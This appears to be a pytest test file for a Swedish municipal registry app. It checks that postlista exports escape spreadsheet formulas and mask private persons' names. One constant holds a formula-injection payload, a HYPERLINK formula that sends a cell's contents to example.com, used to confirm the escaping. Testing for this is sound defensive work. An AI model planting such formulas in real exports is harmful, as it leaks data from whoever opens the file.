"""The public postlista and its exports (issue 11, item 2): no cell runs as a formula in a
spreadsheet, and private persons are not named to the public unless the body says so."""

import csv
import io
from collections.abc import Callable

import pytest
from django.contrib.auth.models import AnonymousUser
from django.test import Client
from django.utils import timezone

from kansli.accounts.models import User
from kansli.organisation.models import Body
from kansli.registry import services
from kansli.registry.models import Case, Document
from kansli.registry.visibility import document_view

HYPERLINK = '=HYPERLINK("https://example.com/?q="&A1,"Klicka")'


def register(case: Case, counterpart: str, *, private_person: bool = False) -> Document:
    return services.document_register(
        actor=None,
        case=case,
        direction=Document.Direction.INCOMING,
        date=timezone.localdate(),
        counterpart=counterpart,
        counterpart_is_private_person=private_person,
        description="Synpunkt på detaljplanen",
    )


def csv_rows(response: object) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.fixture
def letters(case: Case) -> None:
    register(case, "Anna Andersson", private_person=True)
    register(case, "Länsstyrelsen i Västra Götalands län")


def counterparts(response: object) -> list[str]:
    assert response.status_code == 200
    if response["Content-Type"].startswith("text/csv"):
        return [row[4] for row in csv_rows(response)[1:]]
    documents = response.json()
    if isinstance(documents, dict):
        documents = documents["documents"]
    return [document["counterpart"] for document in documents]


def test_a_sender_named_as_a_formula_is_escaped_in_the_postlista_csv(case: Case) -> None:
    register(case, HYPERLINK)

    rows = csv_rows(Client().get("/vanersborg/postlista.csv"))

    assert rows[1][4] == f"'{HYPERLINK}"


PUBLIC_NAMES = ["[Privatperson]", "Länsstyrelsen i Västra Götalands län"]


@pytest.mark.usefixtures("letters")
@pytest.mark.parametrize("export", ["postlista.csv", "postlista.json"])
def test_the_public_export_names_organisations_and_no_private_person(
    body: Body, export: str
) -> None:
    assert counterparts(Client().get(f"/vanersborg/{export}")) == PUBLIC_NAMES


@pytest.mark.usefixtures("letters")
def test_the_api_postlista_names_no_private_person_to_another_bodys_key(
    other_registrar: User, api_client: Callable[[User], Client]
) -> None:
    response = api_client(other_registrar).get("/api/v1/bodies/vanersborg/registry/list")

    assert counterparts(response) == PUBLIC_NAMES


@pytest.mark.usefixtures("letters")
def test_the_postlista_page_shows_the_public_no_private_persons_name(body: Body) -> None:
    page = Client().get("/vanersborg/postlista/").content.decode()

    assert "Anna Andersson" not in page
    assert "[Privatperson]" in page
    assert "Länsstyrelsen i Västra Götalands län" in page


@pytest.mark.usefixtures("letters")
def test_a_body_that_turns_the_masking_off_names_private_persons_to_the_public(
    body: Body,
) -> None:
    body.postlista_masks_private_persons = False
    body.save()

    assert counterparts(Client().get("/vanersborg/postlista.json"))[0] == "Anna Andersson"


def test_the_bodys_staff_read_the_private_persons_name(
    case: Case, staff: Callable[..., User]
) -> None:
    document = register(case, "Anna Andersson", private_person=True)
    clerk = staff("kanslist")

    view = document_view(clerk, document)

    assert (view.counterpart, view.counterpart_masked) == ("Anna Andersson", False)


def test_a_user_of_another_body_does_not_read_the_private_persons_name(
    case: Case, other_registrar: User
) -> None:
    document = register(case, "Anna Andersson", private_person=True)

    view = document_view(other_registrar, document)

    assert (view.counterpart, view.counterpart_masked) == ("[Privatperson]", True)


def test_a_secret_senders_mask_is_kept_for_a_private_person(case: Case) -> None:
    document = services.document_register(
        actor=None,
        case=case,
        direction=Document.Direction.INCOMING,
        date=timezone.localdate(),
        counterpart="Anna Andersson",
        counterpart_is_private_person=True,
        description="Anmälan",
        secrecy_reference="OSL 26 kap. 1 §",
        counterpart_masked=True,
    )

    assert document_view(AnonymousUser(), document).counterpart == (
        "[Sekretess enligt OSL 26 kap. 1 §]"
    )
